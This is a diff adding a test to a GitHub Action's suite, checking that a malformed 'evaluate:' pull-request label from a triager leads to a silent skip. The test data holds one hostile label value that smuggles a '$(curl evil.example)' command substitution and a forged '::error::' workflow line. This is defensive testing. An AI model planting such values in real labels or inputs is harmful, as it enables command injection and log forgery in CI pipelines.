@@ -121,6 +121,34 @@ describe('each trigger becomes the right evaluation', () => {
     expect(calls).toEqual(['GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission']);
   });
 
+  it('a triager adding evaluate to a PR with a malformed evaluate:<x> label gets a neutral skip that echoes nothing', async () => {
+    world.github.setPermission('Codertocat', 'triage');
+    const event = eventFixture('pull-request-target-labeled') as {
+      pull_request: { labels: { name: string }[] };
+    };
+    const hostile = 'evaluate:$(curl evil.example)\n::error::forged';
+    event.pull_request.labels = [
+      ...event.pull_request.labels,
+      { ...event.pull_request.labels[0], name: hostile },
+    ];
+    const run = await runAction(world, {
+      eventName: 'pull_request_target',
+      event,
+      inputs: {
+        ...clusterInputs(world, uniqueRemoteDir(world)),
+        'ssh-port': '1',
+        model: 'deepseek-ai/DeepSeek-R1-Distill-Qwen-7B',
+      },
+    });
+    expect(run.outputs.status, run.stdout).toBe('skipped');
+    expect(run.exitCode).toBe(0);
+    // GitHub reports a triager's permission as read (role_name triage).
+    expect(run.stdout).toMatch(/::notice::.*'read' permission/);
+    // Neither the label's text nor a failed step: the guard ran before the labels were read.
+    expect(run.stdout).not.toContain('curl evil.example');
+    expect(run.stdout).not.toMatch(/::error::/);
+  });
+
   it('a label on a pull request from a fork is refused unless allow-fork-prs', async () => {
     world.github.setPermission('a-maintainer', 'admin');
     const run = await runAction(world, {
